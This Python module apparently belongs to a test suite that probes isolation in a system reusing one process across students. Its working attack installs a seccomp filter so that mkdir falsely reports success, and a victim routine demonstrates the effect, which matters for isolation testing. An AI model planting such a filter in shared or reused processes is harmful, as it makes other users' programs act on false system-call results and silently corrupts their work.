# SPDX-License-Identifier: MIT
"""fake-success.py - a filter of the attacker's, for those who come after.

Goal:  the next student's honest program believes what is not so.
Means: seccomp(2) lets anybody put a filter upon itself, and the result that a filter gives instead
       of making the call may be "no error". In a process that is kept warm for the next student,
       mkdir(2) has succeeded from now on, and no folder is there. A filter cannot be taken off
       again.
"""

import ctypes
import os
import struct

from attack import DONE, attempting, denied, failed

NO_NEW_PRIVS, SET_SECCOMP, FILTER = 38, 22, 2  # prctl
MKDIR, MKDIRAT = 83, 258  # x86_64
LOAD, EQUAL, RETURN, SUCCESS, ALLOW = 0x20, 0x15, 0x06, 0x00050000, 0x7FFF0000

PROGRAM = ((LOAD, 0, 0, 0), (EQUAL, 1, 0, MKDIR), (EQUAL, 0, 1, MKDIRAT), (RETURN, 0, 0, SUCCESS),
           (RETURN, 0, 0, ALLOW))


def run(brief):
    libc = ctypes.CDLL(None, use_errno=True)
    code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *line) for line in PROGRAM))
    program = ctypes.create_string_buffer(struct.pack("@HP", len(PROGRAM), ctypes.addressof(code)))
    attempting()
    if libc.prctl(NO_NEW_PRIVS, 1, 0, 0, 0) or libc.prctl(SET_SECCOMP, FILTER, program, 0, 0):
        return denied("PR_SET_SECCOMP", os.strerror(ctypes.get_errno()))
    return DONE


def victim(brief):
    """Makes a folder for its work, where it may, and puts a file into it."""
    for place in ("/tmp", "."):
        folder = f"{place}/{brief.name}"
        try:
            os.mkdir(folder)
        except OSError:
            continue  # refused, and it is said: no lie
        try:
            with open(f"{folder}/work.txt", "w") as file:
                file.write(brief.secret)
            return DONE
        except OSError as why:
            return failed(folder, why)
    return failed(brief.name, "no place to work")


ATTACK = {
    "effect": "the next student's system calls lie about their success",
    "means": "a seccomp filter of the attacker's in the warm process: mkdir(2) returns 0",
    "oracle": "victim",
    "scene": "before-victim",
    "control": "in-process",
    "needs": ["x86_64"],
    "id": "SCF-13",
    "attack_id": "T1106, T1562, CWE-693",
    "remedy": "a process of its own for each student",
    "refs": ["seccomp(2), SECCOMP_RET_ERRNO"],
    "run": run,
    "victim": victim,
}
